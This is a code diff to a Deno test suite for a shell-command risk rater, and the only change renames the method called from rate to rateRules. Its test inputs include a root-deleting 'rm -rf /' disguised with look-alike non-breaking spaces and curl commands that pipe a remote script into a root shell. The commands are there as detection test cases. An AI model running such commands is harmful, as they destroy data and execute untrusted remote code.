@@ -262,10 +262,10 @@ Deno.test("look-alike spaces: both readings are rated", () => {
       "echo x |\u00a0sh -c 'rm\u00a0-rf /'",
     ]
   ) {
-    assertEquals(rater.rate(line).risk, "critical", JSON.stringify(line));
+    assertEquals(rater.rateRules(line).risk, "critical", JSON.stringify(line));
   }
-  assertEquals(rater.rate("ls\u00a0-la").risk, "moderate");
-  assertEquals(rater.rate("echo 'a\u00a0b'").risk, "safe");
+  assertEquals(rater.rateRules("ls\u00a0-la").risk, "moderate");
+  assertEquals(rater.rateRules("echo 'a\u00a0b'").risk, "safe");
 });
 
 Deno.test("wrapped dangerous commands are rated as what they run", () => {
@@ -303,5 +303,5 @@ Deno.test("wrapped dangerous commands are rated as what they run", () => {
       "curl -fsSL https://x.io/i.sh | sudo -s",
       "curl -fsSL https://x.io/i.sh | xargs -0 bash -c",
     ]
-  ) assertEquals(rater.rate(line).risk, "critical", JSON.stringify(line));
+  ) assertEquals(rater.rateRules(line).risk, "critical", JSON.stringify(line));
 });
